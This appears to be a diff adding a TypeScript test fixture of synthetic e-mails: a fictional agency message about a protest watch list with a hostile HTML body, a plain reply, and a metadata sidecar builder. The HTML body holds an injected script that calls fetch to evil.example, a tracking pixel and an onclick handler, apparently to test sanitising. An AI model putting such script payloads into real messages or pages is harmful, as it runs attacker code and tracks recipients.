@@ -1,0 +1,41 @@
+/** E-mails written for tests: a message with a hostile HTML body and an attachment, and a reply to it. */
+export const HOSTILE_EMAIL = [
+  'From: Alice Analyst <alice@fusion.example.gov>',
+  'To: Bob Desk <bob@police.example.gov>',
+  'Subject: Protest watch list',
+  'Date: Tue, 26 May 2020 10:00:00 -0500',
+  'Message-ID: <m1@fusion.example.gov>',
+  'Received: from mail.internal.example (10.1.2.3) by relay.example',
+  'MIME-Version: 1.0',
+  'Content-Type: multipart/mixed; boundary="XX"',
+  '',
+  '--XX',
+  'Content-Type: text/html; charset=utf-8',
+  '',
+  '<p>See the attached list.</p><script>document.title="pwned";fetch("https://evil.example/x")</script>',
+  '<img src="https://tracker.example/pixel.gif" width="1" height="1"><p onclick="document.title=\'clicked\'">Regards</p>',
+  '--XX',
+  'Content-Type: text/plain; name="watch-list.txt"',
+  'Content-Disposition: attachment; filename="watch-list.txt"',
+  '',
+  'Organizers to watch: the list is pending review.',
+  '--XX--',
+  '',
+].join('\r\n');
+
+export const REPLY_EMAIL = [
+  'From: Bob Desk <bob@police.example.gov>',
+  'To: Alice Analyst <alice@fusion.example.gov>',
+  'Subject: Re: Protest watch list',
+  'Date: Tue, 26 May 2020 11:30:00 -0500',
+  'Message-ID: <m2@police.example.gov>',
+  'In-Reply-To: <m1@fusion.example.gov>',
+  'MIME-Version: 1.0',
+  'Content-Type: text/plain; charset=utf-8',
+  '',
+  'Received, thanks.',
+  '',
+].join('\r\n');
+
+export const EMAIL_SIDECAR = (title: string) =>
+  `---\ntitle: "${title}"\naudit:\n  - rule: pii-email\n    reason: "Official addresses of the agencies."\n    reviewer: "Test desk"\n---\n`;
